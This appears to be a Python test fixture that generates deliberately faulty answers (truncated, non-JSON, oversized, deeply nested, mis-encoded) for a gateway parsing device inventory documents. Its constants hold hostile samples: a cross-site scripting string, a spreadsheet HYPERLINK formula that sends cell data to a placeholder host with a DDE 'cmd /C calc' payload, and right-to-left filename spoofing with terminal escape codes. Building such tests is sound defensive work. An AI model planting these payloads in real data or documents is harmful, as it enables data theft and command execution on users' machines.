"""Answers that are not the evidence they should be, one kind for each value of the fault `garbage`."""

import json
import re
from collections.abc import Callable, Mapping
from typing import Any

_HUGE = 50 * 2**20
_HTML = "<script>alert('gateway')</script><img src=x onerror=alert(1)>&amp;"
_FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"+cmd|\' /C calc\'!A0")'
# Free text of the document, where a gateway could really hold anything.
_FREE = frozenset(
    {"computer_name", "domain", "serial", "manufacturer", "model", "processor", "product_name", "display_name", "name",
     "subject", "issuer", "vendor", "group", "error", "source"}
)  # fmt: skip


def answer(kind: str, document: Mapping[str, Any]) -> bytes:
    """The whole answer of that kind; `empty` where the fault has no value."""
    return _KINDS[kind or "empty"](document)


def around(text: str) -> str:
    """What the bootstrap and the evidence script print around a document."""
    return f"#provisioner FullLanguage\r\n#evidence begin\r\n{text}\r\n#evidence end\r\n"


def _empty(document: Mapping[str, Any]) -> bytes:
    return b""


def _cut(document: Mapping[str, Any]) -> bytes:
    whole = around(json.dumps(document))
    return whole[: len(whole) // 2].encode()


def _not_json(document: Mapping[str, Any]) -> bytes:
    return around("Get-CimInstance : Access is denied.\r\n    + CategoryInfo : PermissionDenied").encode()


def _huge(document: Mapping[str, Any]) -> bytes:
    return around(f'{{"version": 1, "sections": {{"identity": "{"x" * _HUGE}"}}}}').encode()


def _codepage(document: Mapping[str, Any]) -> bytes:
    return around(json.dumps(_with(document, "Llanfair Caerëinion é ¬"), ensure_ascii=False)).encode("cp437", "replace")


def _html(document: Mapping[str, Any]) -> bytes:
    return around(json.dumps(_with(document, _HTML))).encode()


def _formulas(document: Mapping[str, Any]) -> bytes:
    return around(json.dumps(_with(document, _FORMULA))).encode()


def _surrogate(document: Mapping[str, Any]) -> bytes:
    return around(json.dumps(_with(document, "Dell\ud800 \0 \ufffe"))).encode()


def _control(document: Mapping[str, Any]) -> bytes:
    return around(json.dumps(_with(document, "\a\x1b[2J\x9b31m \u202egnp.exe\r\nsecond"))).encode()


def _numbers(document: Mapping[str, Any]) -> bytes:
    return around(re.sub(r"(?<=: )\d+(?=[,}])", f"1{'0' * 400}", json.dumps(document), count=200)).encode()


def _nan(document: Mapping[str, Any]) -> bytes:
    return around(re.sub(r"(?<=: )\d+(?=[,}])", "NaN", json.dumps(document))).encode()


def _deep(document: Mapping[str, Any]) -> bytes:
    return around('{"version": 1, "sections": {"disk": ' + "[" * 100_000 + "]" * 100_000 + "}}").encode()


def _with(value: Any, text: str, key: str = "") -> Any:
    """The document with that text in place of each free one."""
    if isinstance(value, Mapping):
        return {name: _with(one, text, name) for name, one in value.items()}
    if isinstance(value, list):
        return [_with(one, text, key) for one in value]
    return text if key in _FREE and isinstance(value, str) else value


_KINDS: Mapping[str, Callable[[Mapping[str, Any]], bytes]] = {
    "empty": _empty,
    "cut": _cut,
    "html": _html,
    "notjson": _not_json,
    "huge": _huge,
    "codepage": _codepage,
    "formulas": _formulas,
    "surrogate": _surrogate,
    "control": _control,
    "numbers": _numbers,
    "nan": _nan,
    "deep": _deep,
}
